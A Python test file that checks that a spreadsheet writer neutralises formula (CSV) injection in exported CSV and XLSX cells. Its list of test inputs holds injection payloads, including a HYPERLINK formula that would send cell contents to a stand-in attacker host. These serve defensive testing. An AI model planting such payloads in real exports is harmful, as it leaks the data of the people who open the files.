"""Files that no spreadsheet computes anything from: proved by reading them back."""

import csv
from io import BytesIO, StringIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.reader.excel import load_workbook

from engine.insight.spreadsheet import Cell, Table, safe_text, write_csv, write_xlsx

SIGNS = "=+-@\t\r＝＋－＠"
FIRING = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\rcmd",
    ' "=1',
    "'  =1",
    "“=1",
    "\u200b=1",
    "＝1",
    "ok;=1+1",
    'ok",=1',
    "two\nlines\n=1",
    "\x00=1",
    "\ufeff+1",
    '=HYPERLINK("http://evil.test?"&A1)',
]
LEADING = " \"'“”‘’«»\u200b\ufeff"


def from_csv(written: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(written.decode("utf-8-sig"), newline="")))


def from_xlsx(written: bytes) -> list[list[tuple[object, str]]]:
    """Value and type of each cell; a formula would be of type `f`."""
    page = load_workbook(BytesIO(written)).worksheets[0]
    return [[(cell.value, cell.data_type) for cell in row] for row in page.iter_rows()]


def fires(value: str, separators: str) -> bool:
    """Whether a program could begin to read a formula in this cell, which it may part at `separators`."""
    parts = [value]
    for separator in separators:
        parts = [part for each in parts for part in each.split(separator)]
    before = LEADING.replace("'", "")  # an apostrophe is what makes it text
    return any(part.lstrip(before)[:1] and part.lstrip(before)[0] in SIGNS for part in parts)


@pytest.mark.parametrize("text", FIRING)
def test_no_cell_heading_or_name_is_a_formula_in_either_file(text: str) -> None:
    table = Table(header=("name", text), rows=((text, 1), ("Ada", text)))
    cells = [value for row in from_csv(write_csv(table)) for value in row]
    assert not [value for value in cells if fires(value, ",;|\n")]
    read = [cell for row in from_xlsx(write_xlsx(table, sheet="Board")) for cell in row]
    assert {kind for _value, kind in read} == {"s", "n"}
    assert not [value for value, kind in read if kind == "s" and fires(str(value), "\n")]


@settings(max_examples=200)
@given(text=st.text(alphabet=st.sampled_from("=+-@\t\r\n ,;|'\"“”aＡ＝1\u200b\ufeff\x00"), max_size=9))
def test_whatever_is_written_nothing_fires(text: str) -> None:
    assert not fires(safe_text(text), ",;|\n")


@pytest.mark.parametrize("text", ["Ada", "a-b", "1 + 1 = 2", "no = at the start", "mail@host", "", "王小明"])
def test_what_cannot_be_a_formula_stays_as_it_is(text: str) -> None:
    assert safe_text(text) == text


def test_nothing_is_taken_away_but_what_cannot_be_seen() -> None:
    assert safe_text("=1\x00+\x1f2") == "'=1 + 2"


def test_a_table_is_read_back_as_it_was_written() -> None:
    rows: tuple[tuple[Cell, ...], ...] = (("王小明", 3, None), ('say "hi", twice', 0, "two\nlines"))
    table = Table(header=("名字", "number", "note"), rows=rows)
    assert from_csv(write_csv(table)) == [
        ["名字", "number", "note"],
        ["王小明", "3", ""],
        ['say "hi", twice', "0", "two\nlines"],
    ]
    read = [[value for value, _ in row] for row in from_xlsx(write_xlsx(table, sheet="Board"))]
    assert read == [list(table.header), ["王小明", 3, None], ['say "hi", twice', 0, "two\nlines"]]


def test_excel_is_told_the_encoding_of_a_csv_file() -> None:
    assert write_csv(Table(header=("名字",), rows=())).startswith(b"\xef\xbb\xbf")
